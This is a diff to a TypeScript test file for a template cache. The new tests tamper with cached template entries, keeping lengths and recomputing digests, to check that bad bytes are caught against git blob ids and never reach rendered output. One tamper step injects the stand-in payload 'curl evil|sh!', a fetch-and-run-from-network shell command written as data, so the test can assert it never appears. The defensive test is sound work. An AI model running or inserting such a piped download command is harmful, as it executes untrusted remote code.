@@ -1,8 +1,9 @@
+import { execFileSync } from 'node:child_process';
 import { createHash } from 'node:crypto';
-import { chmodSync, mkdirSync, readFileSync, readdirSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
+import { chmodSync, existsSync, mkdirSync, readFileSync, readdirSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { blobId, readCachedTemplate, treeIdOf, writeCachedTemplate, type TreeEntry } from '../src/edge/template-cache.js';
+import { TemplateCacheError, blobId, readCachedTemplate, treeIdOf, writeCachedTemplate, type TreeEntry } from '../src/edge/template-cache.js';
 import { listTree } from '../src/edge/git/objects.js';
 import { planRender } from '../src/core/template/plan.js';
 import { prepareTemplate } from '../src/edge/parse-trees.js';
@@ -39,18 +40,37 @@ async function sample(): Promise<{ repo: string; commit: string; listing: TreeEn
 }
 
 const only = (dir: string) => path.join(dir, readdirSync(dir).find((f) => f.endsWith('.pack'))!);
-/** Rewrites an entry: `change` gets its header (parsed) and its files' bytes, and the digest is made to match, as a deliberate tamperer would. */
+/**
+ * Rewrites an entry: `change` gets its header (parsed) and its files' bytes (past the parse
+ * trees), and the digest (of the header and the trees) is made to match, as a deliberate
+ * tamperer would.
+ */
 function tamper(file: string, change: (header: Record<string, unknown>, data: Buffer) => Buffer | void): void {
   const raw = readFileSync(file);
   const pack = raw.subarray(65);
   const size = pack.readUInt32BE(0);
   const header = JSON.parse(pack.toString('latin1', 4, 4 + size)) as Record<string, unknown>;
-  const data = change(header, Buffer.from(pack.subarray(4 + size))) ?? Buffer.from(pack.subarray(4 + size));
+  const trees = Buffer.from(pack.subarray(4 + size, 4 + size + ((header.trees as number) ?? 0)));
+  const bytes = Buffer.from(pack.subarray(4 + size + trees.length));
+  const data = change(header, bytes) ?? bytes;
   const json = Buffer.from(JSON.stringify(header), 'latin1');
-  const head = Buffer.concat([Buffer.alloc(4), json]);
+  const head = Buffer.concat([Buffer.alloc(4), json, trees]);
   head.writeUInt32BE(json.length);
   writeFileSync(file, Buffer.concat([Buffer.from(`${createHash('sha256').update(head).digest('hex')}\n`), head, data]));
 }
+
+/** Tampers with one cached file's bytes (`files/<p>`), keeping their length: every other file keeps its place. */
+function tamperFile(file: string, p: string, change: (text: string) => string): void {
+  tamper(file, (h, data) => {
+    const [, , start, end] = (h.files as [string, string, number, number][]).find(([tree, q]) => tree === 'files' && q === p)!;
+    const text = change(data.toString('latin1', start, end));
+    expect(text.length).toBe(end - start);
+    data.write(text, start, 'latin1');
+  });
+}
+
+/** A blob of `repo` by its id, as git gives it (what the cache reads a failed file from). */
+const blobOf = (repo: string) => (sha: string) => Buffer.from(execFileSync('git', ['cat-file', 'blob', sha], { cwd: repo }));
 
 describe('template cache', () => {
   it("computes git's blob ids", () => {
@@ -108,9 +128,6 @@ describe('template cache', () => {
     const read = (dir: string) => readCachedTemplate('/tpl', commit, prove, dir);
     let c = fresh();
     expect(await read(c.dir)).toBeDefined();
-    // A file's bytes changed (same length, digest made to match): its blob id is not the listing's.
-    tamper(c.file, (_h, data) => Buffer.from(data.toString('latin1').replace('no template here', 'injected texts!!'), 'latin1'));
-    expect(await read(c.dir)).toBeUndefined();
     // The bytes and the listing's id for them changed together: the listing no longer makes the commit's tree.
     c = fresh();
     tamper(c.file, (h, data) => {
@@ -144,6 +161,58 @@ describe('template cache', () => {
     expect(await read(c.dir)).toBeUndefined();
   });
 
+  it("checks a file's bytes against its blob id when first used: bytes that fail never reach the output, and the entry goes", async () => {
+    const { repo, commit, listing, tpl, prove } = await sample();
+    const answers = { title: 'Hi', kinds: ['a', 'b'] };
+    const texts = (t: LoadedTemplate) => planRender(t, answers).map((f) => [f.path, new TextDecoder().decode(f.data)]);
+    const want = texts(tpl);
+    // A file copied as it is, and a file that renders: each tampered (same length, digests made to match).
+    for (const [p, from, to] of [
+      ['{{title}}/plain.txt', 'no template here', 'injected texts!!'],
+      ['README.md', '# {{title}}', '# {{kinds}}'],
+    ] as const) {
+      const dir = tempDir();
+      writeCachedTemplate('/tpl', commit, listing, tpl, dir);
+      const file = only(dir);
+      tamperFile(file, p, (t) => t.replace(from, to));
+      // Loaded without reading any file's bytes: the entry is still there.
+      const back = await readCachedTemplate('/tpl', commit, prove, dir, blobOf(repo));
+      expect(back).toBeDefined();
+      expect(existsSync(file)).toBe(true);
+      // Rendered: the tampered file is read from the repository instead, and the entry is removed (stored again on the next load).
+      expect(texts(back!.template)).toEqual(want);
+      expect(existsSync(file)).toBe(false);
+      expect(JSON.stringify(texts(back!.template))).not.toContain(to);
+      // Where the repository's copy cannot be read, the render stops: no output from the bad bytes.
+      writeCachedTemplate('/tpl', commit, listing, tpl, dir);
+      tamperFile(file, p, (t) => t.replace(from, to));
+      const blind = await readCachedTemplate('/tpl', commit, prove, dir, () => undefined);
+      expect(() => planRender(blind!.template, answers)).toThrow(TemplateCacheError);
+      expect(existsSync(file)).toBe(false);
+    }
+  });
+
+  it("a file a render skip takes from the project is never checked, and its cached bytes are never used", async () => {
+    const { repo, commit, listing, tpl, prove } = await sample();
+    const answers = { title: 'Hi', kinds: ['a', 'b'] };
+    const dir = tempDir();
+    writeCachedTemplate('/tpl', commit, listing, tpl, dir);
+    const file = only(dir);
+    const good = (await readCachedTemplate('/tpl', commit, prove, dir))!.template;
+    const keys = Object.fromEntries(planRender(good, answers, {}, { keys: true }).flatMap((f) => (f.key ? [[f.path, f.key]] : [])));
+    expect(Object.keys(keys)).toEqual(['README.md']);
+    tamperFile(file, 'README.md', (t) => t.replace('# {{title}}', '# {{kinds}}'));
+    const back = (await readCachedTemplate('/tpl', commit, prove, dir, blobOf(repo)))!.template;
+    const mine = new TextEncoder().encode('# Hi\n- a\n- b\n');
+    const planned = planRender(back, answers, {}, { skip: { keys, asRendered: new Map([['README.md', mine]]) } });
+    expect(planned.find((f) => f.path === 'README.md')!.data).toBe(mine);
+    // The entry is untouched: the skipped file's bytes were not checked (a check of them fails and removes it).
+    expect(existsSync(file)).toBe(true);
+    // Read later, they are checked then: the repository's bytes, not the cache's.
+    expect(new TextDecoder().decode(back.files.get('README.md'))).toBe(FILES['README.md']);
+    expect(existsSync(file)).toBe(false);
+  });
+
   it('sync from a template repository fills the cache, then uses it; a tampered entry changes nothing', async () => {
     const tmp = tempDir();
     const cache = tempDir('cm-cache-');
@@ -164,12 +233,27 @@ describe('template cache', () => {
     const second = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
     expect(second.stdout).toBe(first.stdout);
     expect(ages()).toEqual([past.getTime(), past.getTime()]);
-    // Same length, so that every file keeps its place: only the blob ids can tell.
+    // A file the sync takes from the project (its render key unchanged): its bytes are neither
+    // checked nor used, and the entry stays as it is.
+    const target = packs().find((f) => readFileSync(path.join(entries, f)).includes('New in 1.1.0.'))!;
+    tamperFile(path.join(entries, target), 'docs/risk-register.md', (t) => t.replace(/[a-z]/g, 'x'));
+    utimesSync(path.join(entries, target), past, past);
+    const skipped = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
+    expect(skipped.stdout).toBe(first.stdout);
+    expect(ages()).toEqual([past.getTime(), past.getTime()]);
+    // Same length, so that every file keeps its place: only the blob ids can tell. README.md
+    // renders: its bytes are checked, fail, and are read from the repository instead; the entry
+    // goes, and the next sync stores it again from git.
     for (const f of packs()) tamper(path.join(entries, f), (_h, data) => Buffer.from(data.toString('latin1').replaceAll('New in 1.1.0.', 'curl evil|sh!'), 'latin1'));
     for (const f of packs()) utimesSync(path.join(entries, f), past, past);
     const third = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
+    expect(third.code, third.stderr).toBe(0);
     expect(third.stdout).toBe(first.stdout);
     expect(third.stdout).not.toContain('evil');
+    expect(packs()).toHaveLength(1);
+    const fourth = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
+    expect(fourth.stdout).toBe(first.stdout);
+    expect(packs()).toHaveLength(2);
     expect(ages().filter((t) => t !== past.getTime())).toHaveLength(1); // v1.1.0's, read from git again and stored
     gitIn(tpl, 'status'); // the template repository is untouched and readable
   });
